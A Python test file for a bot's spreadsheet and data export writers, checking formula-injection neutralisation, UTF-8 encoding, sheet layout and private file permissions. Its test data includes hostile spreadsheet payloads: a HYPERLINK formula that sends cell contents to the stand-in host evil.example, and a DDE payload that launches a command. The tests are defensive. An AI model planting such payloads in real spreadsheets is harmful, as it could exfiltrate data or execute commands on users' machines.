"""XLSX, CSV and JSON writers: formula injection, encodings, layout, permissions."""

from __future__ import annotations

import csv
import datetime as dt
import json
import stat
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from bot.exports.data import ExportData
from bot.exports.writers import (
    DANGEROUS_PREFIXES,
    _sheet_title,
    export_dict,
    neutralise,
    sheets,
    write_csv,
    write_json,
    write_xlsx,
)
from bot.storage.database import Database

from .conftest import HOSTILE_COMMENTS, build, insert_feedback

INJECTIONS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
def test_neutralise_each_dangerous_prefix(prefix: str) -> None:
    text = f"{prefix}1+1"
    assert neutralise(text) == f"'{prefix}1+1"


@pytest.mark.parametrize(
    "text", ["", "Bra", "a=b", "1+1", "'quoted", " =1", "Bra hjälp", "x", "<5", "email@x"]
)
def test_neutralise_leaves_safe_text_alone(text: str) -> None:
    assert neutralise(text) == text


def test_dangerous_prefixes_cover_owasp() -> None:
    assert set("=+-@\t\r") <= set(DANGEROUS_PREFIXES)


async def hostile_export(tmp_path: Path) -> ExportData:
    db = await Database.open(tmp_path / "db" / "bot.sqlite3")
    try:
        await insert_feedback(
            db,
            [("2026-W40", "sv", "social", 2, "no", text, "31-50", "haninge") for text in INJECTIONS]
            + [("2026-W40", "sv", "social", 2, "no", "bell\x07 and nul\x00", None, None)],
        )
        async with db.transaction():
            await db.connection.execute(
                "INSERT INTO unanswered_questions (id, week, lang, question) "
                "VALUES ('q1', '2026-W40', 'sv', '=1+2')"
            )
        for _ in range(5):  # tags under five starts are pooled, never listed
            await db.count_deeplink("-tag", dt.date(2026, 10, 1))
        return await build(db, "2026-T3")
    finally:
        await db.close()


async def test_xlsx_has_no_formula_cells(tmp_path: Path) -> None:
    data = await hostile_export(tmp_path)
    path = write_xlsx(data, tmp_path / "export.xlsx")
    workbook = load_workbook(path)
    texts = set()
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.add(cell.value)
                    if cell.value.startswith(("=", "+", "-", "@", "\t", "\r", "＝")):
                        assert cell.quotePrefix, cell.value
    # The text itself is unchanged: a string, not a formula, and no added apostrophe (XML reads
    # a carriage return back as a line feed).
    assert {text.replace("\r", "\n") for text in INJECTIONS} <= texts
    assert "=1+2" in texts
    assert "-tag" in texts
    # And in the raw file: no <f> (formula) element anywhere.
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)


async def test_xlsx_replaces_characters_xml_cannot_hold(tmp_path: Path) -> None:
    data = await hostile_export(tmp_path)
    sheet = load_workbook(write_xlsx(data, tmp_path / "e.xlsx"))["Kommentarer"]
    comments = [row[-1] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert "bell\ufffd and nul\ufffd" in comments


async def test_xlsx_layout(export_data: ExportData, tmp_path: Path) -> None:
    path = write_xlsx(export_data, tmp_path / "export.xlsx")
    workbook = load_workbook(path)
    expected = ["Om exporten", "Kommentarer", "Utveckling per månad"]
    # Sheet names as Excel allows them: "Var detta till hjälp?" loses its question mark.
    expected += [_sheet_title(t.title) for t in export_data.tables]
    assert workbook.sheetnames == [*expected, "Obesvarade frågor"]
    for sheet in workbook.worksheets:
        assert sheet.freeze_panes == "A2"
        assert all(cell.font.bold for cell in sheet[1])
        assert sheet.column_dimensions["A"].width >= 8
        if sheet.max_row > 1:  # staff can filter every sheet
            last = sheet.cell(1, sheet.max_column).column_letter
            assert sheet.auto_filter.ref == f"A1:{last}{sheet.max_row}"
    comments = workbook["Kommentarer"]
    header = [c.value for c in comments[1]]
    assert header == [
        "Referens",
        "Tema",
        "Verksamhet",
        "Kommun",
        "Månad",
        "Språk",
        "Behöver översättas",
        "Betyg (1–5)",
        "Betyg",
        "Betygsgrupp",
        "Bemött med respekt",
        "Hanterad",
        "Godkänd för citat",
        "Kommentar",
    ]
    assert "Åldersgrupp" not in header
    themes = sum(len(c.themes) for c in export_data.comments)
    assert comments.max_row == themes + 1  # a comment is listed under each of its themes
    ratings = [row[7] for row in comments.iter_rows(min_row=2, values_only=True)]
    labels = [row[8] for row in comments.iter_rows(min_row=2, values_only=True)]
    assert all(isinstance(r, int) and 1 <= r <= 5 for r in ratings if r is not None)
    assert all(str(label).startswith(str(r)) for r, label in zip(ratings, labels, strict=True) if r)
    assert comments["N2"].alignment.wrap_text  # long comments wrap instead of running on
    translate = {row[5]: row[6] for row in comments.iter_rows(min_row=2, values_only=True)}
    assert translate.get("Romani chib") == "Ja" and translate.get("Svenska") is None
    services = workbook["Betyg per verksamhet"]
    assert services["A2"].value == "Modersmålsundervisning"
    numbers = [c.value for row in services.iter_rows(min_row=2) for c in row[1:]]
    assert any(isinstance(v, int) for v in numbers)
    assert all(isinstance(v, int) or v in {"<5", "x"} for v in numbers)
    assert services.cell(services.max_row, 1).value == "Totalt"


async def test_csv_files(export_data: ExportData, tmp_path: Path) -> None:
    files = write_csv(export_data, tmp_path / "csv")
    names = [p.name for p in files]
    assert names[:2] == ["about.csv", "comments.csv"]
    assert {f"{t.key}.csv" for t in export_data.tables} <= set(names)
    assert "unanswered_questions.csv" in names
    for path in files:
        raw = path.read_bytes()
        assert raw.startswith(b"\xef\xbb\xbf"), path.name  # UTF-8 byte order mark for Excel
        raw.decode("utf-8-sig")
    with (tmp_path / "csv" / "comments.csv").open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle, delimiter=";"))
    assert rows[0][0] == "Referens" and rows[0][-1] == "Kommentar"
    comments = {row[-1] for row in rows[1:]}
    for text in HOSTILE_COMMENTS:
        assert (neutralise(text) if text.startswith(DANGEROUS_PREFIXES) else text) in comments
    assert '\'=HYPERLINK("http://evil.example","click")' in comments
    assert "Bra hjälp med skolan" in comments  # non-ASCII survives


async def test_csv_neutralises_every_cell(tmp_path: Path) -> None:
    data = await hostile_export(tmp_path)
    for path in write_csv(data, tmp_path / "csv"):
        with path.open(encoding="utf-8-sig", newline="") as handle:
            for row in csv.reader(handle, delimiter=";"):
                for value in row:
                    assert not value.startswith(DANGEROUS_PREFIXES), (path.name, value)
    deeplinks = (tmp_path / "csv" / "deeplinks.csv").read_text(encoding="utf-8-sig")
    assert "'-tag" in deeplinks


async def test_json(export_data: ExportData, tmp_path: Path) -> None:
    path = write_json(export_data, tmp_path / "export.json")
    loaded = json.loads(path.read_text(encoding="utf-8"))
    assert loaded == json.loads(json.dumps(export_dict(export_data)))
    assert loaded["period"] == "2026" and loaded["scope"] is None
    assert len(loaded["comments"]) == len(export_data.comments)
    assert "age_band" not in loaded["comments"][0]
    assert set(HOSTILE_COMMENTS) <= {c["comment"] for c in loaded["comments"]}
    table = loaded["tables"]["services"]
    assert table["header"][0] == "Verksamhet"
    assert table["rows"][-1][0] == "Totalt"
    assert not table["withheld"]
    assert "Bra hjälp med skolan" in path.read_text(encoding="utf-8")  # not \\u-escaped


async def test_files_are_private(export_data: ExportData, tmp_path: Path) -> None:
    paths = [
        write_xlsx(export_data, tmp_path / "e.xlsx"),
        write_json(export_data, tmp_path / "e.json"),
        *write_csv(export_data, tmp_path / "csv"),
    ]
    for path in paths:
        assert stat.S_IMODE(path.stat().st_mode) == 0o600, path
    assert not leftovers(tmp_path)


def leftovers(directory: Path) -> list[Path]:
    return list(directory.rglob("*.partial"))


async def test_overwrites_an_existing_file(export_data: ExportData, tmp_path: Path) -> None:
    path = tmp_path / "e.json"
    path.write_text("old")
    path.chmod(0o644)
    write_json(export_data, path)
    assert path.read_text(encoding="utf-8").startswith("{")
    assert stat.S_IMODE(path.stat().st_mode) == 0o600


async def test_every_sheet_row_is_as_wide_as_its_header(export_data: ExportData) -> None:
    for sheet in sheets(export_data):
        assert all(len(row) == len(sheet.header) for row in sheet.rows), sheet.key
